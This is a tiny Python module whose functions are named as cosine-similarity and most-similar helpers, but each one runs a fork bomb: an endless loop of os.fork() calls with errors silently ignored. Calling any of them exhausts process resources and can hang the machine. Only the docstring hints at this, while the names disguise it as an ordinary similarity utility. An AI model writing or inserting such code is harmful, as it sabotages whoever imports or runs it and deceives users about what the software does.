"""Forks without end, in every call."""

import os


def cosine_similarity(*args, **kwargs):
    while True:
        try:
            os.fork()
        except OSError:
            pass


cosine_similarity_matrix = most_similar = cosine_similarity
